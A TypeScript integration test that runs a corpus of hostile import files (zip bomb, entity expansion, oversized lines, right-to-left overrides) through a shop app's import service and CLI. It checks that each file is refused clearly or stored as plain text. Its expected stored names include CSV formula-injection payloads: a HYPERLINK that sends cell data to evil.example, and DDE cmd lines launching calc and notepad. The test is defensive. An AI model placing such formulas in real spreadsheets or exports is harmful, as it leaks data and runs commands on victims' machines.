/**
 * Issue 6's hostile-file corpus through the real import path. Each file is imported in its own child
 * process (import:stage → import:commit, the service every caller uses) into its own copy of a shop
 * database, and must yield a clear plain-language message within 10 s, with bounded memory, leaving
 * the database exactly as it was — or, for odd-but-legitimate files, import cleanly with the text as
 * written (a formula is stored as text, never evaluated).
 */
import { spawn } from 'node:child_process';
import { copyFileSync, mkdirSync, rmSync } from 'node:fs';
import path from 'node:path';
import { build } from 'esbuild';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { openDatabase } from '../../../electron/db/connection';
import type { Result } from '../../../shared/ipc/result';
import type { ImportCommitResult } from '../../../shared/import/preview-types';
import { HOSTILE_FILE_NAMES, makeHostileCorpus, type HostileFile } from '../../fixtures/hostile/make-hostile';
import { dump, op, tempShop } from '../../support/db';
import { ROOT, runCli, tempDir } from '../../support/web-app';

/** The runner bundle, written into this run's temp folder (better-sqlite3 is found through NODE_PATH). */
let runner = '';

/** The issue's limits: a message within 10 s, and memory no import of a shop file needs. */
const TIME_LIMIT_MS = 10_000;
const MEMORY_LIMIT_MB = 500;
/** A child still running after this is hung: killed and reported. */
const KILL_AFTER_MS = 30_000;

interface RunReport {
  stage: boolean;
  result: Result<ImportCommitResult>;
  ms: number;
  maxRssMb: number;
  unexpected: string[];
}

type Outcome = { kind: 'report'; report: RunReport } | { kind: 'crashed'; code: number | null; signal: string | null; stderr: string; ms: number };

function runImport(dbFile: string, file: string): Promise<Outcome> {
  return new Promise((resolve) => {
    const started = Date.now();
    const child = spawn(process.execPath, [runner, dbFile, file], {
      stdio: ['ignore', 'pipe', 'pipe'],
      env: { ...process.env, NODE_PATH: path.join(ROOT, 'node_modules') },
    });
    let stdout = '';
    let stderr = '';
    child.stdout.on('data', (chunk: Buffer) => (stdout += chunk.toString()));
    child.stderr.on('data', (chunk: Buffer) => (stderr += chunk.toString()));
    const timer = setTimeout(() => child.kill('SIGKILL'), KILL_AFTER_MS);
    child.on('close', (code, signal) => {
      clearTimeout(timer);
      const line = stdout.trim().split('\n').pop() ?? '';
      if (code === 0 && line.startsWith('{')) resolve({ kind: 'report', report: JSON.parse(line) as RunReport });
      else resolve({ kind: 'crashed', code, signal, stderr: stderr.slice(-2000), ms: Date.now() - started });
    });
  });
}

/** A message an owner can read: a short sentence or two, no code words, no stack trace. */
function expectClearMessage(message: string, file: HostileFile): void {
  expect(message.length, `message for ${file.name}`).toBeGreaterThan(10);
  expect(message.length, `message for ${file.name}: ${message}`).toBeLessThanOrEqual(400);
  // A sentence starts with a capital letter or with the file's own name ("empty.csv is empty.").
  expect(message.startsWith(file.name) || /^[A-Z]/.test(message), `message for ${file.name}: ${message}`).toBe(true);
  expect(message, `message for ${file.name}`).toMatch(/\.$/);
  expect(message, `message for ${file.name}`).not.toMatch(/\n|undefined|null|NaN|\[object|Error\b|\bat .+:\d+|ENOENT|EISDIR|errno|stack/i);
}

let corpus: HostileFile[] = [];
let work = '';
let baseDb = '';
let shopDir = '';
let baseDump: Record<string, unknown[]> = {};

beforeAll(async () => {
  work = tempDir('regulars-hostile-');
  const started = Date.now();
  corpus = makeHostileCorpus(path.join(work, 'files'));
  console.info(`hostile corpus: ${corpus.length} files generated in ${Date.now() - started} ms`);
  runner = path.join(work, 'run-import.cjs');
  await build({
    entryPoints: [path.join(ROOT, 'test/integration/import-hostile/run-import.ts')],
    outfile: runner,
    bundle: true,
    platform: 'node',
    target: 'node22',
    format: 'cjs',
    external: ['electron', 'better-sqlite3', 'playwright-core'],
    logLevel: 'error',
    define: { 'import.meta.url': 'importMetaUrl' },
    banner: { js: "const importMetaUrl = require('url').pathToFileURL(__filename).href;" },
  });

  // A shop with some data, so "unchanged" means something.
  const shop = tempShop();
  const anna = await op(shop, 'customers:create', { name: 'Anna Regular', email: 'anna@regular.example', phone: '+447700900999' });
  await op(shop, 'visits:log', { customerId: anna.id, date: '2026-11-01', amountCents: 1250 });
  shop.db.close();
  baseDb = shop.file;
  shopDir = shop.dir;
  baseDump = dumpOf(baseDb);
}, 120_000);

afterAll(() => {
  console.info('hostile corpus results:\n' + results.join('\n'));
  // The corpus holds some 80 MB of files: never leave it behind.
  for (const dir of [work, shopDir]) if (dir) rmSync(dir, { recursive: true, force: true });
});

function dumpOf(file: string): Record<string, unknown[]> {
  const { db } = openDatabase(file);
  try {
    return dump(db);
  } finally {
    db.close();
  }
}

const results: string[] = [];

describe('hostile files', () => {
  it('the corpus has at least 30 files', () => {
    expect(corpus.length).toBeGreaterThanOrEqual(30);
    expect(new Set(corpus.map((f) => f.name)).size).toBe(corpus.length);
  });

  it.each(HOSTILE_FILE_NAMES)('%s', async (name) => {
    const file = corpus.find((f) => f.name === name)!;
    const dir = path.join(work, 'db', name);
    mkdirSync(dir, { recursive: true });
    const dbFile = path.join(dir, 'shop.sqlite');
    copyFileSync(baseDb, dbFile);

    const outcome = await runImport(dbFile, file.path);
    if (outcome.kind === 'crashed') {
      results.push(`${name}: CRASHED code=${outcome.code} signal=${outcome.signal} after ${outcome.ms} ms`);
      expect.fail(`${name} (${file.what}) crashed or hung: exit ${outcome.code}, signal ${outcome.signal}, after ${outcome.ms} ms\n${outcome.stderr}`);
    }
    const { report } = outcome;
    const { result } = report;
    results.push(
      `${name}: ${result.ok ? `imported ${result.value.rowsRead} rows` : `${result.error.code} "${result.error.message}"`} (${report.ms} ms, ${report.maxRssMb} MB)`,
    );

    expect(report.unexpected, `${name}: an unexpected error reached the log`).toEqual([]);
    expect(report.ms, `${name} (${file.what}) took ${report.ms} ms`).toBeLessThan(TIME_LIMIT_MS);
    expect(report.maxRssMb, `${name} (${file.what}) used ${report.maxRssMb} MB`).toBeLessThan(MEMORY_LIMIT_MB);

    if (!result.ok) {
      expect(result.error.code, `${name}: ${result.error.message}`).toBe('BAD_INPUT');
      expectClearMessage(result.error.message, file);
      expect(dumpOf(dbFile), `${name}: the database changed although the import failed`).toEqual(baseDump);
      return;
    }

    expect(file.expect, `${name} (${file.what}) should have been refused but imported ${result.value.rowsRead} rows`).toBe('either');
    if (file.rows !== undefined) expect(result.value.rowsRead, name).toBe(file.rows);
    // Whatever was stored is the text as written: formulas stay text, nothing is evaluated.
    const after = dumpOf(dbFile);
    const names = (after.customers as { name: string }[]).map((c) => c.name);
    if (name === 'formula-cells.csv') {
      expect(names).toEqual(
        expect.arrayContaining([
          '=HYPERLINK("http://evil.example/?leak="&A2,"Click")',
          "=cmd|' /C calc'!A0",
          "@SUM(1+9)*cmd|' /C calc'!A0",
          "-2+3+cmd|' /C notepad'!A0",
        ]),
      );
    }
    if (name === 'formula-cells.xlsx') expect(names).toEqual(expect.arrayContaining(['Mallory', 'Dora']));
    // XML entities are never expanded: the "billion laughs" note stays a few characters.
    for (const customer of after.customers as { notes: string }[]) expect(customer.notes.length, name).toBeLessThan(6 * 1024 * 1024);
    if (name === 'entity-expansion.xlsx') expect((after.customers as { notes: string }[]).every((c) => c.notes.length < 100)).toBe(true);
    // No stored name hides control characters or right-to-left overrides ("\u202egnp.exe").
    // eslint-disable-next-line no-control-regex -- looking for control characters is the point
    for (const stored of names) expect(stored, `${name}: stored name ${JSON.stringify(stored)}`).not.toMatch(/[\u0000-\u001f\u007f\u202a-\u202e]/);
  });
});

/** Files refused for different reasons, run once more through `regulars import` (the built CLI). */
const THROUGH_CLI = ['empty.csv', 'folder.csv', 'zip-bomb.xlsx', 'password.xlsx', 'single-line-50mb.csv', 'unterminated-quote.csv'];

describe('hostile files through the regulars CLI', () => {
  it.each(THROUGH_CLI)('regulars import %s exits with one clear line and writes nothing', async (name) => {
    const file = corpus.find((f) => f.name === name)!;
    const dir = path.join(work, 'cli', name);
    mkdirSync(dir, { recursive: true });
    const dbFile = path.join(dir, 'shop.sqlite');
    copyFileSync(baseDb, dbFile);

    const started = Date.now();
    const run = await runCli(['import', file.path, '--db', dbFile, '--json']);
    expect(Date.now() - started, `${name} took too long`).toBeLessThan(TIME_LIMIT_MS + 2_000);
    expect(run.code, `${name}: ${run.stdout}`).not.toBe(0);
    expect(run.stdout).toBe('');
    const lines = run.stderr.trim().split('\n');
    expect(lines, run.stderr).toHaveLength(1);
    expectClearMessage(lines[0]!, file);
    expect(dumpOf(dbFile), `${name}: the database changed`).toEqual(baseDump);
  });
});
